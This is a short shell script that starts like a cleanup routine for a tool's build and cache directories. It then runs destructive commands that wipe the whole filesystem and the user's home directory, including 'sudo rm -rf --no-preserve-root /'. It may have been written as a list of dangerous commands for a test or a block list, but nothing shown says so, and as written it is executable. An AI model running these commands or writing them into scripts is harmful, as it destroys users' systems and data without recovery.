#!/bin/sh
rm -rf ./build
rm -rf /tmp/mytool-build
rm -rf ~/.cache/mytool
rm -rf /
rm -rf ~
rm -rf "$HOME"
rm -fr $HOME/
sudo rm -rf --no-preserve-root /
